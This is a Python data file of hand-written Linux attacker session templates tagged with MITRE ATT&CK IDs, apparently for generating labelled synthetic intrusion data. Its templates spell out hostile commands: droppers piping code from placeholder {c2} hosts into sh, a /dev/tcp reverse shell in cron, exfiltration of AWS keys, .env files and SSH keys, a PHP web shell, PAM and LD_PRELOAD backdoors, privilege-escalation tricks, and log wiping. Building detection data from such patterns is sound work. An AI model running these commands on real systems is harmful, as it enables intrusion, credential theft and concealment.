"""Hand-written Linux attacker session templates for make_sessions.py: one family per template.

Each entry is (family, kind, template). `kind` sets the timing, noise and account (bot: sub-second gaps, no typos,
root or a guessed login; human: pauses, typos retyped, `ls` after `cd`, an admin's account; web: a person typing
through a web shell or reverse shell under a service account such as www-data, without the `ls` noise). The template language is described in sessions_core.py; the labelling
rules (a fragment takes the label of the activity it serves) in SESSIONS.md. Every line was written for this
project from general knowledge of intrusion behaviour (honeypot botnets, cryptominer droppers, hands-on-keyboard
intrusions); none is copied from a dataset.
"""

FAMILIES = [
# --- 1. SSH/telnet botnets: fingerprint, drop, run (sub-second, scripted) ----------------------------------------
("bot-cpuinfo-dropper", "bot", """
~ T1082 :: cat /proc/cpuinfo | grep name | wc -l
~ T1082 :: uname -a
~ T1033 :: whoami
~ T1082 :: free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'
T1105,T1105,T1059.004,T1059.004 :: cd {dir}; wget http://{c2}/{bin}; chmod +x {bin}; ./{bin}
?0.5 T1070.004 :: rm -rf {bin}
"""),
("bot-cpuinfo-full-fingerprint", "bot", """
T1082 :: cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'
T1082 :: free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'
T1082 :: ls -lh $(which ls)
T1082 :: which ls
T1082 :: crontab -l
T1082 :: w
T1082 :: uname -m
T1082 :: cat /proc/cpuinfo | grep model | grep name | wc -l
T1057 :: top
T1082 :: uname
T1082 :: uname -a
T1033 :: whoami
T1082 :: lscpu | grep Model
T1082 :: df -h | head -n 2 | awk 'FNR == 2 {print $2;}'
"""),
("bot-echo-probe-busybox", "bot", """
T1059.004 :: enable
T1059.004 :: system
T1059.004 :: shell
T1059.004 :: sh
T1059.004 :: /bin/busybox {r}
T1083 :: cat /proc/mounts; /bin/busybox {r}
T1105 :: cd {dir} || cd /var/run || cd /mnt || cd /root || cd /
T1105,T1059.004,T1059.004,T1059.004 :: wget http://{c2}/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp {c2} -c get tftp1.sh
T1070.004 :: rm -rf bins.sh tftp1.sh
"""),
("bot-mirai-loader-arch", "bot", """
T1059.004 :: /bin/busybox ECCHI
T1082 :: /bin/busybox cat /proc/cpuinfo || while read i; do echo $i; done < /proc/cpuinfo
T1082 :: /bin/busybox cat /bin/echo
T1105,T1105,T1059.004,T1059.004 :: cd {dir}; /bin/busybox wget http://{c2}/{arch} -O .{r}; /bin/busybox chmod 777 .{r}; ./.{r} {arch}.ssh
T1070.004 :: rm -rf .{r}
"""),
("bot-curl-pipe-sh", "bot", """
T1033 :: id
T1082 :: uname -a
T1105,T1059.004 :: curl -s http://{c2}/{script} | sh
?0.4 T1105,T1059.004 :: wget -q -O - http://{c2}/{script} | bash
"""),
("bot-wget-curl-fallback", "bot", """
T1082 :: uname -s -v -n -r -m
T1105,T1105,T1105,T1105,T1059.004,T1059.004 :: cd {dir}; wget http://{c2}/{script} || curl -O http://{c2}/{script} || tftp {c2} -c get {script}; chmod +x {script}; sh {script}
T1070.004,T1070.004 :: rm -rf {script}; rm -rf *
"""),
("bot-fileless-python", "bot", """
T1082 :: uname -a; nproc
T1059.006 :: python3 -c "import urllib.request,os;exec(urllib.request.urlopen('http://{c2}:{port}/p').read())"
?0.5 T1059.006 :: python -c "import urllib2;exec(urllib2.urlopen('http://{c2}:{port}/p').read())"
"""),
("bot-password-change-lockout", "bot", """
T1082 :: uname -a
T1033 :: id
T1098,T1098 :: echo "{user}:{pw2}" | chpasswd
T1531,T1531 :: echo -e "{pw2}\\n{pw2}" | passwd {user}
T1098.004,T1098.004,T1098.004,T1098.004 :: rm -rf ~/.ssh; mkdir ~/.ssh; echo "{key}" >> ~/.ssh/authorized_keys; chmod -R go= ~/.ssh
"""),
("bot-ssh-key-chattr", "bot", """
T1098.004,T1098.004,T1098.004,T1098.004,T1098.004,T1098.004 :: cd ~ && rm -rf .ssh && mkdir .ssh && echo "{key}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~
T1222.002 :: chattr +ia ~/.ssh/authorized_keys
T1082 :: cat /proc/cpuinfo | grep name | wc -l
T1082 :: uname -a
"""),
("bot-redtail-style", "bot", """
T1033 :: whoami
T1105,T1105,T1105,T1105 :: cd {dir}; rm -rf {bin}; wget http://{c2}/{bin}.{arch} -O {bin} || curl -o {bin} http://{c2}/{bin}.{arch}
T1059.004,T1059.004 :: chmod +x {bin}; ./{bin} ssh.{arch}
T1070.004 :: rm -rf {bin}
T1053.003,T1053.003,T1053.003 :: (crontab -l 2>/dev/null; echo "@reboot {dir}/{bin}") | crontab -
"""),
("bot-kill-competitors-miner", "bot", """
T1489,T1489,T1489,T1489,T1489 :: ps aux | grep -v grep | grep -E '«kdevtmpfsi|kinsing|xmrig|minerd»' | awk '{print $2}' | xargs kill -9
T1489,T1489 :: pkill -f «kdevtmpfsi|kinsing|xmrig|cpuminer»; pkill -f «minerd|sysupdate|networkservice»
T1685 :: chattr -i /etc/ld.so.preload
T1685 :: rm -f /etc/ld.so.preload
T1105,T1105 :: cd {dir} && curl -sL http://{c2}/{bin} -o {bin}
T1496.001,T1496.001 :: chmod +x {bin} && nohup ./{bin} -o {pool}:{poolport} -u {wallet} -p x --donate-level 1 >/dev/null 2>&1 &
"""),
("bot-xmrig-tarball", "bot", """
T1082 :: nproc
T1082 :: cat /proc/meminfo | head -n 1
T1105,T1105 :: cd {dir} && wget -q http://{c2}/xmrig-{ver}-linux-x64.tar.gz
T1140,T1140 :: tar xzf xmrig-{ver}-linux-x64.tar.gz && cd xmrig-{ver}
T1496.001 :: ./xmrig -o {pool}:{poolport} -u {wallet} -k --coin monero -B
T1070.004 :: rm -f ../xmrig-{ver}-linux-x64.tar.gz
"""),
("bot-huawei-router-probe", "bot", """
T1082 :: cat /proc/version
T1082 :: cat /proc/cpuinfo
T1016 :: cat /etc/resolv.conf
T1016 :: ifconfig
T1105,T1105,T1059.004,T1059.004 :: cd /var/tmp; tftp -g -r {arch} {c2}; chmod 777 {arch}; ./{arch} huawei
"""),
("bot-honeypot-check-echo", "bot", """
T1497.001 :: echo -e "\\x6F\\x6B"
T1497.001 :: ls -la /var/run/gcc.pid
T1497.001 :: cat /proc/1/cgroup | grep -i docker
T1082 :: uname -a
T1033 :: whoami
T1105,T1059.004 :: curl -fsSL http://{c2}/{script} | bash -s {r}
"""),
("bot-perl-ircbot", "bot", """
T1082 :: uname -a
T1105,T1105 :: cd {dir}; wget -q http://{c2}/pl.txt -O .b
T1059.004,T1059.004 :: perl .b {c2} 6667; rm -f .b
T1070.003 :: history -c
"""),
("bot-lock-competitors-passwd", "bot", """
T1033 :: id
T1136.001 :: useradd -m -p '$1$abc$xyzxyzxyzxyzxyzxyzxy' {newuser}
T1098 :: usermod -aG sudo {newuser}
T1531 :: passwd -l ubuntu
T1690,T1690 :: unset HISTFILE; export HISTFILE=/dev/null
"""),
("bot-docker-api-miner", "bot", """
T1613 :: docker ps
T1613 :: docker images
T1610 :: docker run -d --restart always --name {r} -v /:/host alpine sh -c "chroot /host sh -c 'curl -s http://{c2}/{script} | sh'"
T1613 :: docker ps -a | grep {r}
"""),
("bot-redis-cron-write", "bot", """
T1082 :: redis-cli -h 127.0.0.1 info server
T1053.003 :: redis-cli -h 127.0.0.1 config set dir /var/spool/cron/crontabs
T1053.003 :: redis-cli -h 127.0.0.1 config set dbfilename root
T1053.003 :: redis-cli -h 127.0.0.1 set x "\\n*/2 * * * * curl -fsSL http://{c2}/{script} | sh\\n"
T1053.003 :: redis-cli -h 127.0.0.1 save
"""),
("bot-tsunami-ddos", "bot", """
T1082 :: uname -a
T1105,T1105 :: cd {dir}; wget http://{c2}/{arch}
T1059.004,T1059.004 :: chmod +x {arch}; ./{arch}
T1498 :: ./{arch} -udp {c2b} 80 60
"""),
("bot-shell-busybox-tftp", "bot", """
T1059.004 :: sh
T1059.004 :: /bin/busybox TSUNAMI
T1083,T1083,T1083 :: cd /tmp || cd /var/run; ls
T1105,T1059.004,T1059.004 :: /bin/busybox tftp -r {arch} -g {c2}; /bin/busybox chmod 777 {arch}; ./{arch} telnet
T1070.004 :: /bin/busybox rm -rf {arch}
"""),
("bot-nproc-miner-config", "bot", """
T1082 :: nproc --all
T1082 :: lscpu | grep -i «mhz|model name»
T1105,T1105 :: mkdir -p {dir}/{hid} && cd {dir}/{hid}
T1105 :: curl -s -o config.json http://{c2}/config.json
T1105 :: curl -s -o {bin} http://{c2}/{bin}
T1496.001,T1496.001 :: chmod +x {bin}; ./{bin} -c config.json --threads={n} -B
T1053.003,T1053.003,T1053.003 :: (crontab -l; echo "* * * * * cd {dir}/{hid} && ./{bin} -c config.json -B") | crontab -
"""),
("bot-aws-creds-scrape", "bot", """
T1033 :: whoami
T1552.001 :: cat ~/.aws/credentials
T1552.001 :: find / -name credentials -path "*/.aws/*" 2>/dev/null
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
T1041,T1041 :: cat ~/.aws/credentials | curl -s -X POST --data-binary @- http://{c2}/up
"""),
("bot-env-secrets-grab", "bot", """
T1552.001,T1552.001 :: env | grep -iE 'key|secret|token|pass'
T1552.001 :: cat .env
T1552.001,T1552.001 :: find / -name ".env" -type f 2>/dev/null | head -n 20
T1560.001,T1041 :: tar czf - .env ~/.aws 2>/dev/null | curl -s -F f=@- http://{c2}/u
"""),
# --- 2. Hands-on-keyboard: web shell foothold to root --------------------------------------------------------------
("hok-webshell-to-root", "web", """
T1033 :: id
T1082 :: uname -a
T1083 :: pwd
T1083 :: ls -la {web}
T1552.001 :: cat {web}/wp-config.php | grep DB_
T1548.001,T1548.001 :: find / -perm -4000 -type f 2>/dev/null | head -n 30
?0.5 T1548.001 :: ls -la /usr/bin/pkexec
T1068,T1068 :: cd /tmp; wget http://{c2}/pwnkit
T1068,T1068 :: chmod +x pwnkit; ./pwnkit
T1033 :: id
T1003.008 :: cat /etc/shadow
"""),
("hok-revshell-tty-upgrade", "web", """
T1059.006 :: python3 -c 'import pty; pty.spawn("/bin/bash")'
T1059.004 :: export TERM=xterm
T1033 :: whoami
T1033 :: id
T1083 :: ls -la
T1082 :: cat /etc/issue
T1069.001 :: groups
T1548.003 :: sudo -l
?0.6 T1548.003 :: sudo -u root /usr/bin/vim -c ':!/bin/bash'
"""),
("hok-sudo-gtfobins-find", "human", """
T1033 :: id
T1548.003 :: sudo -l
T1548.003 :: sudo find . -exec /bin/sh \\; -quit
T1033 :: whoami
T1136.001 :: useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {newuser}
T1098 :: echo "{newuser}:{pw}" | chpasswd
"""),
("hok-suid-hunt-linpeas", "human", """
T1105,T1105 :: cd /dev/shm; curl -sL http://{c2}/linpeas.sh -o lp.sh
T1083 :: chmod +x lp.sh; ./lp.sh -a 2>/dev/null | tee lp.out
T1548.001 :: grep -i "suid" lp.out | head
T1548.001 :: find / -user root -perm -4000 -exec ls -ldb {} \\; 2>/dev/null
T1548.001 :: /usr/bin/find . -exec /bin/sh -p \\; -quit
T1070.004 :: rm -f lp.sh lp.out
"""),
("hok-dirtypipe-exploit", "human", """
T1082 :: uname -r
T1082 :: cat /etc/os-release | grep VERSION
T1068,T1068 :: cd /tmp && wget -q http://{c2}/dp.c
T1068,T1068 :: gcc dp.c -o dp && ./dp /usr/bin/su
T1033 :: id
T1070.004 :: rm -f dp dp.c
"""),
("hok-kernel-exploit-compile", "human", """
T1082 :: uname -a
T1082 :: cat /proc/version
T1518 :: which gcc cc python3 perl
T1068 :: cd /tmp
T1068 :: curl -O http://{c2}/{r}.c
T1068 :: gcc -o {r} {r}.c -lpthread
?0.4 T1068 :: gcc -o {r} {r}.c -lpthread -static
T1068 :: ./{r}
T1033 :: whoami
"""),
("hok-docker-group-escape", "human", """
T1033 :: id
T1069.001 :: groups
T1613 :: docker ps
T1611 :: docker run -v /:/mnt --rm -it alpine chroot /mnt sh
T1033 :: id
T1003.008 :: cat /etc/shadow
"""),
("hok-lxd-escape", "human", """
T1069.001 :: id
T1613 :: lxc image list
T1611 :: lxc init alpine {r} -c security.privileged=true
T1611 :: lxc config device add {r} host-root disk source=/ path=/mnt/root recursive=true
T1611,T1611 :: lxc start {r} && lxc exec {r} /bin/sh
T1033 :: id
"""),
("hok-writable-passwd", "human", """
T1083 :: ls -la /etc/passwd /etc/shadow
T1136.001 :: openssl passwd -1 -salt {r} {pw}
T1136.001 :: echo '{newuser}:$1${r}$Qx8eQ1:0:0:root:/root:/bin/bash' >> /etc/passwd
T1078.003@privilege-escalation :: su {newuser}
T1033 :: id
"""),
("hok-cron-path-hijack", "human", """
T1053.003 :: cat /etc/crontab
T1083 :: ls -la /etc/cron.d
T1053.003,T1053.003 :: ls -la /opt/scripts/; cat /opt/scripts/backup.sh
T1053.003@privilege-escalation :: echo 'cp /bin/bash /tmp/.b; chmod +s /tmp/.b' >> /opt/scripts/backup.sh
T1548.001 :: ls -la /tmp/.b
T1548.001 :: /tmp/.b -p
T1033 :: id
"""),
("hok-capabilities-python", "human", """
T1548 :: getcap -r / 2>/dev/null
T1548 :: /usr/bin/python3.«10|11|8» -c 'import os; os.setuid(0); os.system("/bin/bash")'
T1033 :: whoami
"""),
("hok-nfs-no-root-squash", "human", """
T1135 :: cat /etc/exports
T1135 :: showmount -e {lan}
T1548.001 :: mkdir /tmp/m && mount -t nfs {lan}:/srv/share /tmp/m
T1548.001,T1548.001 :: cp /bin/bash /tmp/m/b; chmod +s /tmp/m/b
T1548.001 :: /srv/share/b -p
"""),
# --- 3. Persistence planting --------------------------------------------------------------------------------------
("pers-systemd-service", "human", """
T1543.002 :: cd /etc/systemd/system
T1543.002 :: echo -e "[Unit]\\nDescription=Network Sync\\n[Service]\\nExecStart={dir}/{bin}\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target" > netsync.service
T1543.002 :: systemctl daemon-reload
T1543.002,T1543.002 :: systemctl enable netsync.service && systemctl start netsync.service
T1543.002 :: systemctl status netsync
"""),
("pers-systemd-timer", "human", """
T1053.006 :: cat > /etc/systemd/system/{r}.timer <<< "[Timer]\\nOnCalendar=*:0/15\\n[Install]\\nWantedBy=timers.target"
T1053.006 :: systemctl daemon-reload
T1053.006 :: systemctl enable --now {r}.timer
T1053.006,T1053.006 :: systemctl list-timers | grep {r}
"""),
("pers-rc-local", "human", """
T1037.004 :: ls -la /etc/rc.local
T1037.004 :: echo "{dir}/{bin} &" >> /etc/rc.local
T1037.004 :: chmod +x /etc/rc.local
T1037.004 :: cat /etc/rc.local
"""),
("pers-bashrc-implant", "human", """
T1546.004 :: echo 'nohup {dir}/{bin} >/dev/null 2>&1 &' >> ~/.bashrc
T1546.004 :: echo "alias sudo='sudo {dir}/.s'" >> ~/.bashrc
T1546.004 :: tail -n 3 ~/.bashrc
T1070.006 :: touch -r /etc/hostname ~/.bashrc
"""),
("pers-profile-d", "human", """
T1546.004 :: echo '[ -x {dir}/{bin} ] && {dir}/{bin} &' > /etc/profile.d/{r}.sh
T1546.004 :: chmod 644 /etc/profile.d/{r}.sh
T1070.006 :: touch -r /etc/profile /etc/profile.d/{r}.sh
"""),
("pers-ssh-key-manual", "human", """
T1098.004 :: cd ~
T1098.004 :: ls -la .ssh
T1098.004,T1098.004 :: mkdir -p .ssh && chmod 700 .ssh
T1098.004 :: echo "{key}" >> .ssh/authorized_keys
T1098.004 :: chmod 600 .ssh/authorized_keys
T1098.004 :: cat .ssh/authorized_keys
"""),
("pers-backdoor-user", "human", """
T1087.001 :: cat /etc/passwd | tail -n 5
T1136.001 :: useradd -m -s /bin/bash {newuser}
T1098,T1098 :: echo "{newuser}:{pw}" | chpasswd
T1098 :: usermod -aG «sudo|wheel» {newuser}
T1098 :: echo "{newuser} ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers
T1564.002 :: usermod -d /var/lib/{newuser} {newuser}
"""),
("pers-uid0-alias-user", "human", """
T1136.001 :: useradd -o -u 0 -g 0 -s /bin/bash -d /root {newuser}
T1098 :: passwd {newuser}
T1087.001 :: grep ':0:' /etc/passwd
"""),
("pers-webshell-php", "web", """
T1505.003 :: cd {web}
T1505.003 :: echo '<?php system($_GET["c"]); ?>' > {web}/wp-content/uploads/{r}.php
T1505.003 :: chown www-data:www-data {web}/wp-content/uploads/{r}.php
T1070.006 :: touch -r {web}/index.php {web}/wp-content/uploads/{r}.php
T1505.003 :: curl -s "http://127.0.0.1/wp-content/uploads/{r}.php?c=id"
"""),
("pers-ld-preload-rootkit", "human", """
T1105,T1105 :: cd /usr/local/lib && wget -q http://{c2}/lib{r}.so
T1574.006 :: echo /usr/local/lib/lib{r}.so > /etc/ld.so.preload
T1574.006 :: cat /etc/ld.so.preload
T1014 :: ls /usr/local/lib
T1057 :: ps aux | grep {bin}
"""),
("pers-kernel-module", "human", """
T1082 :: uname -r
T1547.006 :: apt-get install -y linux-headers-$(uname -r) build-essential
T1547.006 :: cd /tmp/{r} && make
T1547.006 :: insmod {r}.ko
T1547.006 :: echo {r} >> /etc/modules
T1014 :: lsmod | grep {r}
"""),
("pers-pam-backdoor", "human", """
T1556.003 :: ls -la /lib/x86_64-linux-gnu/security/pam_unix.so
T1556.003 :: cp /lib/x86_64-linux-gnu/security/pam_unix.so /var/tmp/.p
T1105,T1105 :: cd /var/tmp && wget -q http://{c2}/pam_unix.so
T1556.003 :: cp pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so
T1070.006 :: touch -r /lib/x86_64-linux-gnu/security/pam_access.so /lib/x86_64-linux-gnu/security/pam_unix.so
"""),
("pers-cron-reverse-shell", "human", """
T1053.003 :: crontab -l
T1053.003,T1053.003,T1053.003 :: (crontab -l 2>/dev/null; echo "*/5 * * * * /bin/bash -c 'bash -i >& /dev/tcp/{c2}/{port} 0>&1'") | crontab -
T1053.003 :: crontab -l
"""),
("pers-cron-d-file", "human", """
T1053.003 :: ls /etc/cron.d/
T1053.003 :: echo "*/3 * * * * root {dir}/{bin} >/dev/null 2>&1" > /etc/cron.d/{r}
T1053.003 :: chmod 644 /etc/cron.d/{r}
T1070.006 :: touch -r /etc/cron.d/popularity-contest /etc/cron.d/{r}
"""),
("pers-motd-hook", "human", """
T1037 :: ls /etc/update-motd.d/
T1037 :: echo "{dir}/{bin} >/dev/null 2>&1 &" >> /etc/update-motd.d/00-header
"""),
("pers-git-hook", "human", """
T1083 :: find / -name "*.git" -type d 2>/dev/null | head
T1546 :: cd /srv/git/{project}.git/hooks
T1546 :: echo '#!/bin/sh' > post-receive; echo "curl -s http://{c2}/{script} | sh" >> post-receive
T1546 :: chmod +x post-receive
"""),
("pers-xdg-autostart", "human", """
T1547 :: mkdir -p ~/.config/autostart
T1547 :: echo -e "[Desktop Entry]\\nType=Application\\nName=update\\nExec={dir}/{bin}" > ~/.config/autostart/update.desktop
"""),
# --- 4. Credential access -----------------------------------------------------------------------------------------
("cred-shadow-dump-crack", "human", """
T1003.008 :: cat /etc/shadow
T1003.008 :: cat /etc/shadow | grep -v '*' | grep -v '!'
T1003.008 :: cp /etc/shadow /tmp/.s
T1003.008 :: unshadow /etc/passwd /etc/shadow > /tmp/.h
T1048.003,T1048.003 :: cat /tmp/.h | nc {c2} {port}
T1070.004 :: rm -f /tmp/.s /tmp/.h
"""),
("cred-ssh-keys-harvest", "human", """
T1552.004 :: find / -name "id_rsa*" 2>/dev/null
T1552.004,T1552.004 :: find / -name "*.pem" -o -name "*.key" 2>/dev/null | grep -v /usr/share
T1552.004 :: cat /home/*/.ssh/id_rsa
T1552.004 :: cat ~/.ssh/known_hosts
T1560.001 :: tar czf /tmp/.k.tgz /home/*/.ssh /root/.ssh
T1041 :: curl -F "f=@/tmp/.k.tgz" http://{c2}:{port}/up
"""),
("cred-history-grep", "human", """
T1552.003 :: cat ~/.bash_history
T1552.003,T1552.003 :: cat /home/*/.bash_history | grep -iE 'pass|mysql|ssh|sshpass'
T1552.003 :: grep -h "mysql -u" /root/.bash_history /home/*/.bash_history
T1552.003 :: cat ~/.mysql_history
"""),
("cred-config-grep", "human", """
T1552.001 :: grep -rni "password" /etc/*.conf 2>/dev/null
T1552.001,T1552.001 :: grep -rE "(pass|pwd|secret)\\s*=" {web} 2>/dev/null | head -n 40
T1552.001 :: cat {web}/.env
T1552.001 :: cat /var/lib/jenkins/credentials.xml
T1552.001 :: find / -name "*.kdbx" 2>/dev/null
"""),
("cred-mysql-dump-users", "human", """
T1552.001 :: cat {web}/wp-config.php
T1005 :: mysql -u {dbuser} -p'{pw}' -e "show databases;"
T1005 :: mysql -u {dbuser} -p'{pw}' {db} -e "select user_login,user_pass from wp_users;"
T1074.001 :: mysqldump -u {dbuser} -p'{pw}' {db} > /tmp/.{db}.sql
T1560.001 :: gzip /tmp/.{db}.sql
"""),
("cred-proc-memory", "human", """
T1057,T1057 :: ps aux | grep -i «sshd|ssh-agent|gnome-keyring»
T1003.007 :: cat /proc/{pid}/maps | grep heap
T1003.007 :: dd if=/proc/{pid}/mem bs=1 skip=$((0x55d1a2000000)) count=$((0x21000)) of=/tmp/.m 2>/dev/null
T1003.007,T1003.007 :: strings /tmp/.m | grep -i pass
"""),
("cred-sshd-strace-sniff", "human", """
T1057 :: pgrep -l sshd
T1056 :: strace -f -p $(pgrep -o sshd) -e trace=read,write -o /tmp/.st 2>/dev/null &
T1056 :: grep -a 'read(6' /tmp/.st | tail -n 20
"""),
("cred-tcpdump-sniff", "human", """
T1016 :: ip a
T1040 :: tcpdump -i {iface} -nn -s0 -w /dev/shm/.p port 21 or port 23 or port 110
T1040,T1040 :: tcpdump -A -r /dev/shm/.p | grep -iE 'user|pass'
T1070.004 :: rm /dev/shm/.p
"""),
("cred-ssh-brute-internal", "human", """
T1018 :: arp -a
T1046 :: nmap -p22 --open {net} -oG - | grep open
T1105 :: wget -q http://{c2}/users.txt http://{c2}/pass.txt
T1110.001 :: hydra -L users.txt -P pass.txt -t 4 ssh://{lan}
T1110.003 :: for h in $(cat hosts); do sshpass -p '{pw}' ssh -o StrictHostKeyChecking=no root@$h id; done
"""),
("cred-pam-keylog-alias", "human", """
T1056.001 :: echo 'alias sudo="read -sp \\"[sudo] password for $USER: \\" p; echo; echo $p >> /tmp/.sp; /usr/bin/sudo"' >> ~/.bashrc
T1056.001 :: cat /tmp/.sp
"""),
("cred-browser-firefox", "human", """
T1217 :: ls ~/.mozilla/firefox/
T1555.003 :: find ~/.mozilla -name "logins.json" -o -name "key4.db"
T1555.003 :: cp ~/.mozilla/firefox/*.default-release/{logins.json,key4.db} /tmp/.ff/
T1217 :: ls ~/.config/google-chrome/Default/
T1555.003 :: cp "~/.config/google-chrome/Default/Login Data" /tmp/.ff/
"""),
("cred-kube-token", "human", """
T1552.001 :: cat ~/.kube/config
T1552.007 :: cat /var/run/secrets/kubernetes.io/serviceaccount/token
T1613 :: kubectl get pods --all-namespaces
T1552.007 :: kubectl get secrets -A -o yaml
"""),
("cred-docker-config", "human", """
T1552.001 :: cat ~/.docker/config.json
T1552.001,T1552.001 :: cat ~/.docker/config.json | base64 -d
T1552.001 :: cat ~/.git-credentials
T1552.001 :: cat ~/.netrc
"""),
# --- 5. Discovery sweeps (hands-on) -------------------------------------------------------------------------------
("disc-first-look", "human", """
T1033 :: w
T1033 :: id
T1082 :: hostname
T1082 :: uname -a
T1016 :: ip a
T1016 :: ip route
T1049 :: netstat -antp
T1057 :: ps -ef
T1083 :: ls -la /home
"""),
("disc-network-map", "human", """
T1016 :: ifconfig -a
T1016 :: cat /etc/resolv.conf
T1018 :: cat /etc/hosts
T1018 :: arp -n
T1049 :: ss -tulpn
T1018 :: ip neigh
T1046 :: for p in 22 80 443 3306 5432 6379; do (echo > /dev/tcp/{lan}/$p) 2>/dev/null && echo "$p open"; done
"""),
("disc-pingsweep-loop", "human", """
T1016 :: ip -4 addr show {iface}
T1018 :: for i in $(seq 1 254); do ping -c1 -W1 {sub}.$i | grep "bytes from" & done
T1018 :: arp -a
"""),
("disc-nmap-internal", "human", """
T1518 :: which nmap
T1105,T1105 :: cd /tmp; wget http://{c2}/nmap
T1046,T1046 :: chmod +x nmap; ./nmap -sS -T4 {net}
T1046 :: ./nmap -sV -p 22,80,443,3306,6379,9200,27017 {lan}
"""),
("disc-container-check", "human", """
T1497.001 :: cat /proc/1/cgroup
T1497.001 :: ls -la /.dockerenv
T1613 :: mount | grep docker
T1613 :: env | grep -i kube
T1082 :: cat /proc/self/status | grep Cap
"""),
("disc-cloud-metadata", "human", """
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/
T1552.005 :: curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/«ec2-role|app-role|default»
T1580 :: aws ec2 describe-instances --region «us-east-1|eu-west-1»
T1580 :: aws s3 ls
"""),
("disc-gcp-metadata", "human", """
T1552.005 :: curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/
T1552.005 :: curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
T1580 :: gcloud compute instances list
T1526 :: gcloud projects list
"""),
("disc-security-tools", "human", """
T1518.001,T1518.001 :: ps aux | grep -iE 'falcon|osquery|wazuh|ossec|auditd|clamav|sysdig'
T1518.001 :: systemctl list-units --type=service | grep -iE 'audit|falcon|wazuh'
T1518.001 :: ls /opt
T1518.001 :: cat /etc/audit/audit.rules
"""),
("disc-software-inventory", "human", """
T1518 :: dpkg -l | grep -iE 'mysql|postgres|apache|nginx|docker'
T1518 :: rpm -qa | grep -i «kernel|openssl»
T1518 :: which python python3 perl gcc nc wget curl socat
T1007 :: systemctl list-units --type=service --state=running
"""),
("disc-users-groups", "human", """
T1087.001 :: cat /etc/passwd
T1087.001 :: cat /etc/passwd | grep -v nologin | cut -d: -f1
T1069.001 :: cat /etc/group | grep -E 'sudo|wheel|docker|adm'
T1033 :: last -n 20
T1033 :: lastlog | grep -v Never
"""),
("disc-file-hunt", "human", """
T1083 :: ls -la /root
T1083 :: find /home -type f -name "*.txt" -o -name "*.pdf" -o -name "*.xlsx" 2>/dev/null
T1083 :: find / -mtime -2 -type f 2>/dev/null | grep -v /proc | head -n 50
T1083 :: du -sh /var/www/* /srv/* /opt/* 2>/dev/null
"""),
("disc-time-locale", "human", """
T1124 :: date
T1124 :: timedatectl
T1614 :: cat /etc/timezone
T1614.001 :: locale
T1082 :: uptime
"""),
("disc-hw-vm-check", "human", """
T1497.001 :: dmidecode -s system-product-name
T1497.001,T1497.001 :: cat /sys/class/dmi/id/product_name; cat /sys/class/dmi/id/sys_vendor
T1497.001,T1497.001 :: lspci | grep -i «vmware|virtualbox|qemu»
T1082 :: lsblk
T1082 :: df -h
"""),
# --- 6. Defense evasion and clean-up ------------------------------------------------------------------------------
("evade-history-off", "human", """
T1690 :: unset HISTFILE
T1690 :: export HISTSIZE=0
T1690 :: set +o history
T1033 :: id
T1070.003 :: history -c
"""),
("evade-log-wipe", "human", """
T1685.006 :: echo > /var/log/auth.log
T1685.006 :: echo > /var/log/syslog
T1685.006,T1685.006 :: cat /dev/null > /var/log/wtmp; cat /dev/null > /var/log/btmp
T1685.006 :: rm -f /var/log/secure*
T1685.006 :: journalctl --rotate && journalctl --vacuum-time=1s
T1070.003,T1070.003 :: history -c && rm -f ~/.bash_history
"""),
("evade-sed-logs", "human", """
T1685.006 :: sed -i '/{c2}/d' /var/log/auth.log
T1685.006,T1685.006 :: grep -v {c2} /var/log/nginx/access.log > /tmp/.a; mv /tmp/.a /var/log/nginx/access.log
T1070.006 :: touch -r /var/log/syslog /var/log/auth.log
"""),
("evade-disable-auditd", "human", """
T1685.004 :: service auditd stop
T1685.004 :: auditctl -D
T1685.004 :: auditctl -e 0
T1685 :: systemctl stop «falcon-sensor|wazuh-agent|osqueryd»
T1685 :: systemctl disable «falcon-sensor|wazuh-agent|osqueryd»
"""),
("evade-firewall-off", "human", """
T1686 :: iptables -L -n
T1686 :: iptables -F
T1686 :: ufw disable
T1686,T1686 :: systemctl stop firewalld; systemctl disable firewalld
"""),
("evade-selinux-apparmor", "human", """
T1685 :: getenforce
T1685 :: setenforce 0
T1685 :: sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config
T1685 :: systemctl stop apparmor
"""),
("evade-hide-and-masquerade", "human", """
T1564.001 :: mkdir -p /usr/lib/{hid}
T1036.005 :: cp {dir}/{bin} /usr/lib/{hid}/«systemd-udevd|kworker|dbus-daemon»
T1564.001 :: ls -la /usr/lib/{hid}
T1070.006 :: touch -d "2021-03-04 10:12" /usr/lib/{hid}
T1070.004 :: rm -f {dir}/{bin}
"""),
("evade-base64-stager", "human", """
T1140,T1140 :: echo {r2}Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaAo= | base64 -d
T1140,T1140,T1059.004 :: echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaAo= | base64 -d | bash
"""),
("evade-timestomp-cleanup", "human", """
T1070.006 :: touch -r /bin/ls {dir}/{bin}
T1070.004 :: shred -u /tmp/.{r}
T1070.004 :: rm -rf /tmp/.* 2>/dev/null
T1070.003 :: history -c
"""),
("evade-chattr-lock", "human", """
T1222.002 :: chattr +i {dir}/{bin}
T1222.002 :: chattr +i /etc/cron.d/{r}
T1222.002 :: lsattr {dir}/{bin}
"""),
("evade-kill-monitoring", "human", """
T1057 :: ps aux | grep -iE "aliyun|qcloud|bcm-agent|cloudmonitor"
T1685 :: systemctl stop aliyun.service
T1685 :: /usr/local/qcloud/stargate/admin/uninstall.sh
T1685 :: rm -rf /usr/local/aegis
